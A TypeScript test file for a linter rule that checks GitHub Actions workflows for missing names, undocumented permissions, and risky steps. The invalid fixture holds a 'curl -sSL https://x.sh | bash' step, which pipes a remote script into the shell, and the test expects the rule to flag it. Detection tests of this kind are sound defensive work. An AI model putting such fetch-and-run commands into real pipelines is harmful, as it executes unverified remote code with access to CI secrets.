import rule from '../../../../engine/rules/actions/pedantic';
import { ruleTester } from '../../rule-tester';

ruleTester(rule, {
  valid: [
    `name: CI
on: push
permissions:
  contents: write # pushes tags
jobs:
  a:
    name: A
    runs-on: ubuntu-latest
    steps:
      - run: make
`,
  ],
  invalid: [
    {
      code: `on: push
permissions:
  contents: write
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -sSL https://x.sh | bash
      - run: echo \${{ 'hidden' }}
`,
      errors: [
        { messageId: 'anonymousWorkflow', line: 1, column: 1, endLine: 1, endColumn: 3 },
        { messageId: 'undocumented', line: 3, column: 13, endLine: 3, endColumn: 18 },
        { messageId: 'anonymousJob', line: 5, column: 3, endLine: 5, endColumn: 4 },
        { messageId: 'curlPipe', line: 8, column: 14, endLine: 8, endColumn: 43 },
        { messageId: 'obfuscated', line: 9, column: 19, endLine: 9, endColumn: 34 },
      ],
    },
  ],
});
